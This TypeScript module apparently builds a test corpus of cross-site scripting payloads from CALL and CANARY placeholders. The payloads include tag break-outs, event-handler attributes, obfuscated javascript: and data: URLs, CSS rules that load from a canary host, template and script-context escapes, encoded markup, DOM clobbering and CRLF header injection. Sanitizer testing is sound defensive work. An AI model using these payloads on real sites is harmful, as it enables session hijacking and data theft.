import { CALL, CANARY, MARKUP } from './xss-markup.js';

// What ends the place that an owner's text stands in, with what follows it there.
const OPENERS = ['"', "'", '`', '">', "'>", '"/>', "'/>", '>', '/>', ' ', '&quot;>', '&#34;>', '&#x27;>'];
const CLOSERS =
  'title style script textarea pre code template noscript select svg symbol a b dd dl dialog h1 li p section span summary head body html'
    .split(' ')
    .map((name) => `</${name}>`);
const ENDS = [...OPENERS, ...CLOSERS, ...`--> --!> ]]> ?> %> */ } }; ; \\ \\" \\'`.split(' ')];
const BREAK_OUTS = ENDS.map(
  (end, index) =>
    [`${end}<img src=x onerror=${CALL}>`, `${end}<svg onload=${CALL}>`, `${end}<script>${CALL}</script>`][
      index % 3
    ],
).filter((text) => text !== undefined);

const HANDLERS =
  `click mouseover pointerenter focus blur load error toggle beforetoggle animationstart transitionend
  keydown auxclick contextmenu copy wheel scroll input change submit securitypolicyviolation
  contentvisibilityautostatechange`.split(/\s+/);
const ATTRIBUTES = HANDLERS.map((name, index) => {
  const quote = ['"', "'", ''][index % 3] ?? '';
  return `x${quote} autofocus tabindex=0 on${name}=${CALL} y=${quote}`;
});

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `javascript://a.example/%0a${CALL}`,
  `javascript://a.example/\n${CALL}`,
  `javascript:void ${CALL}`,
  `javascript:"<img src=x onerror=${CALL}>"`,
  `javascript:%61lert(1)`,
  `javascript:alert%281%29`,
  `javascript:\u2028${CALL}`,
  ` javascript:${CALL}`,
  `\tjavascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u001fjavascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `\u200bjavascript:${CALL}`,
  `\u00adjavascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\r\nscript:${CALL}`,
  `java&#9;script:${CALL}`,
  `java&Tab;script:${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6a;&#x61;vascript:${CALL}`,
  `javascript\u003a${CALL}`,
  `javascript%3A${CALL}`,
  `j\u0430vascript:${CALL}`,
  `javaſcript:${CALL}`,
  `ｊａｖａｓｃｒｉｐｔ：${CALL}`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `mocha:${CALL}`,
  `feed:javascript:${CALL}`,
  `jar:javascript:${CALL}!/`,
  `view-source:javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:text/html;charset=utf-8,%3Cscript%3E${CALL}%3C/script%3E`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${CALL}</script>`,
  `data:text/javascript,${CALL}`,
  `data:,${CALL}`,
  `blob:https://a.example/1`,
  `filesystem:https://a.example/temporary/x.html`,
  `file:///etc/passwd`,
  `about:blank#${CALL}`,
  `intent://x#Intent;scheme=javascript;S.browser_fallback_url=${CANARY};end`,
  `//canary.example/x`,
  `\\\\canary.example\\x`,
  `/\\canary.example/x`,
  `https:/\\a.example/"onerror=${CALL}`,
  `tel:1"onclick=${CALL}//`,
  `mailto:a@a.example"onclick=${CALL}//`,
  `mailto:a@a.example?subject=x%0d%0aBcc:b@a.example<script>${CALL}</script>`,
  `geo:0,0"><svg onload=${CALL}>`,
  `whatsapp://send?text="><script>${CALL}</script>`,
] as const;

const STYLES = [
  `red;background:url(${CANARY}/css1)`,
  `#fff;}*{background:url(${CANARY}/css2)}`,
  `#fff}</style><script>${CALL}</script>`,
  `#000;--x:url(${CANARY}/css3);background:var(--x)`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `}@import url(${CANARY}/css4);{`,
  `@import '${CANARY}/css5';`,
  `\\7d *{background:url(${CANARY}/css6)}`,
  `*/}body{background:url(${CANARY}/css7)}/*`,
  `;behavior:url(#x);-moz-binding:url(${CANARY}/css8#x);`,
  `}@font-face{font-family:x;src:url(${CANARY}/css9)}*{font-family:x}`,
  `x" style="background:url(${CANARY}/css10)`,
  `x' style='animation:x;width:expression(${CALL})`,
  `<style>*{background:url(${CANARY}/css11)}</style>`,
  `<div style=background:url(${CANARY}/css12)>x</div>`,
] as const;

const SCRIPT_TEXTS = [
  `";${CALL};//`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `\\";${CALL};//`,
  `\${${CALL}}`,
  `\u2028${CALL}//`,
  `\u2029${CALL}//`,
  `</script><script>${CALL}</script>`,
  `</ScRiPt\n><svg onload=${CALL}>`,
  `<!--<script>${CALL}`,
  `<!--<script></script>--><script>${CALL}</script>`,
  `"}</script><img src=x onerror=${CALL}>`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${CALL}`,
  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `"]}};${CALL};({"a":["`,
  `__proto__`,
  `{"__proto__":{"src":"data:,${CALL}"}}`,
] as const;

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `{{{"<img src=x onerror=${CALL}>"}}}`,
  `<%= ${CALL} %>`,
  `<?= ${CALL} ?>`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  `@{${CALL}}`,
  `{%25 raw %25}<script>${CALL}</script>`,
  `<x v-on:click=${CALL} @click=${CALL}>go</x>`,
  `<x ng-app ng-csp ng-click=$event.view.${CALL}>go</x>`,
  `<x x-data x-init=${CALL}></x>`,
  `$& $\` $' $1 $<x>`,
  `{n}{s}{p}{name}`,
  `%s%d%n`,
] as const;

// What some step between storage and screen might decode once more.
const ENCODED = [
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `&#x3c;svg onload=${CALL}&#x3e;`,
  `&#0000060svg onload=${CALL}&#0000062`,
  `&ltimg src=x onerror=${CALL}&gt`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `＜script＞${CALL}＜/script＞`,
  `‹script›${CALL}‹/script›`,
  `ʺonclick=${CALL} ʺ`,
  `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
  `\u{1f600}<svg onload=${CALL}>\u{1f600}`,
  `\u202e<script>${CALL}</script>\u202c`,
  `\u2066<img src=x onerror=${CALL}>\u2069`,
  `\u200f"onclick=${CALL} "\u200e`,
  `\u200b<\u200bscript>${CALL}</script>`,
  `<\u00a0script>${CALL}</script>`,
  `<\u0001script>${CALL}</script>`,
  `<img\u000bsrc=x\u000bonerror=${CALL}>`,
  `<img\fsrc=x\fonerror=${CALL}>`,
  `<img\u0085src=x onerror=${CALL}>`,
  `\ufeff<script>${CALL}</script>`,
  `\ufffd<script>${CALL}</script>`,
  `e\u0301<svg/onload=${CALL}>`,
  `<ſcript>${CALL}</ſcript>`,
  `<ıframe onload=${CALL}>`,
  `\u001b[31m<script>${CALL}</script>`,
  `\u007f<script>${CALL}</script>`,
] as const;

const CLOBBERS = [
  '<form id=text><input name=querySelector></form>',
  '<a id=text></a><a id=text name=textContent href=x:y></a>',
  '<img name=querySelectorAll>',
  '<img name=getElementById>',
  '<img name=images>',
  '<form name=body><input name=parentNode></form>',
  '<input id=location>',
  '<iframe name=history></iframe>',
  '<a id=navigator href=x:y>',
  '<object name=cookie></object>',
  '<p id=menu data-menu-item data-menu-search data-menu-bar data-copy data-share data-eye>',
  '<a data-ipad-or-mac href=javascript:alert(1)>',
  'constructor',
  'hasOwnProperty',
  'text',
  'menu',
  'i-link',
] as const;

const LINES = [
  `\r\nSet-Cookie: a=b`,
  `\r\n\r\n<script>${CALL}</script>`,
  `x\nLocation: ${CANARY}/`,
  `x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Other`,
  `x;PHOTO;VALUE=URI:${CANARY}/photo`,
  `x\\\nTEL:+1900`,
  `"; filename="x.html`,
] as const;

/** Texts that would run, load or lead astray in a page that lets one of them through. All are distinct. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...MARKUP,
    ...BREAK_OUTS,
    ...ATTRIBUTES,
    ...ADDRESSES,
    ...STYLES,
    ...SCRIPT_TEXTS,
    ...TEMPLATES,
    ...ENCODED,
    ...CLOBBERS,
    ...LINES,
  ]),
];
